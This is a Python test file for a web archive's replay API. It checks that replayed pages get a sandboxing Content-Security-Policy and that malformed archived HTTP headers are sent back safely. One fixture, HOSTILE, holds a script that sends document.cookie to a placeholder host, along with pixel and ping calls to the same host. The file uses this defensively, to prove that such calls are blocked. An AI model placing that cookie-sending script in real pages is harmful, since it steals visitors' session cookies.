"""Replayed pages are hostile: whatever an archived page does in the visitor's browser must stay
in the archive. These tests capture such pages from a local server and replay them through the
API, checking what the responses allow the browser to do."""

from __future__ import annotations

import io
import json
from pathlib import Path

import httpx
import pytest
from fastapi.testclient import TestClient
from warcio.statusandheaders import StatusAndHeaders
from warcio.warcwriter import WARCWriter

from tests.support.pages import PageServer
from tests.support.processes import ApiServer
from tests.support.stack import capture, home_env, run_cli

#: Loads the live web in ways rewriting cannot reach: a script, an inline frame's own HTML, a ping.
HOSTILE = """<!DOCTYPE html><html><head><title>Hostile</title>
<script>fetch("https://live.example.net/track?c=" + document.cookie)</script></head>
<body><p>An archived page that calls home.</p>
<iframe srcdoc="<img src='https://live.example.net/pixel.gif'>"></iframe>
<a href="/next" ping="https://live.example.net/ping">next</a></body></html>"""

#: Where the archive's own responses may load from; no scheme or host of the live web.
ARCHIVE_ONLY = {"'self'", "'unsafe-inline'", "'unsafe-eval'", "data:", "blob:", "mediastream:"}


def _policy(header: str) -> dict[str, list[str]]:
    directives = {}
    for part in header.split(";"):
        name, *sources = part.split()
        directives[name.lower()] = sources
    return directives


@pytest.mark.parametrize("modifier", ["", "mp_", "if_", "im_", "id_"])
def test_a_replayed_page_may_load_only_from_the_archive(
    workers, client: TestClient, pages: PageServer, modifier: str
) -> None:
    url = pages.set("/hostile", HOSTILE)
    capture(workers, url)
    (line,) = client.get("/cdx", params={"url": url, "output": "json"}).text.splitlines()
    stamp = json.loads(line)["timestamp"]

    response = client.get(f"/web/{stamp}{modifier}/{url}")
    assert response.status_code == 200, response.text
    policy = _policy(response.headers["content-security-policy"])
    assert "allow-scripts" in policy["sandbox"] and "allow-same-origin" not in policy["sandbox"]
    assert "'self'" in policy["default-src"]
    assert set(policy["default-src"]) <= ARCHIVE_ONLY, policy["default-src"]
    assert policy["form-action"] == ["'self'"]


def test_archived_headers_that_break_http_are_replayed_safely(tmp_path: Path) -> None:
    """A WARC from elsewhere may hold any bytes in its HTTP headers: a name with a space, control
    characters in a value. Sent back as they are, the server refused the whole response (the
    client saw the connection close); HTTP's grammar binds our response, not the archived one."""
    url = "http://headers.example.org/page"
    body = b"<html><head><title>Headers</title></head><body><p>A page with strange headers.</p></body></html>"
    path = tmp_path / "headers.warc.gz"
    with path.open("wb") as out:
        writer = WARCWriter(out, gzip=True)
        headers = StatusAndHeaders("200 OK", [("Content-Type", "text/html;\x01charset=utf-8"), ("X Spaced", "a"),
                                              ("X-Control", "a\x00b\x1bc"), ("X-Plain", "kept")], protocol="HTTP/1.1")
        writer.write_record(writer.create_warc_record(url, "response", payload=io.BytesIO(body), http_headers=headers,
                                                      warc_headers_dict={"WARC-Date": "2024-05-01T10:00:00Z"}))
    env = home_env(tmp_path / "home")
    imported = run_cli("import", str(path), env=env)
    assert imported.returncode == 0, imported.stderr
    server = ApiServer(env, tmp_path / "api.log").start()
    try:
        for modifier in ("id_", ""):
            answer = httpx.get(f"{server.base_url}/web/20240501100000{modifier}/{url}", timeout=10)
            assert answer.status_code == 200, server.output()[-2000:]
            assert b"strange headers" in answer.content
        original = httpx.get(f"{server.base_url}/web/20240501100000id_/{url}", timeout=10).headers
        assert original["content-type"] == "text/html;%01charset=utf-8"
        assert original["x-archive-orig-x-control"] == "a%00b%1Bc"
        assert original["x-archive-orig-x-plain"] == "kept"
        assert not any("spaced" in name for name in original)
    finally:
        server.stop()
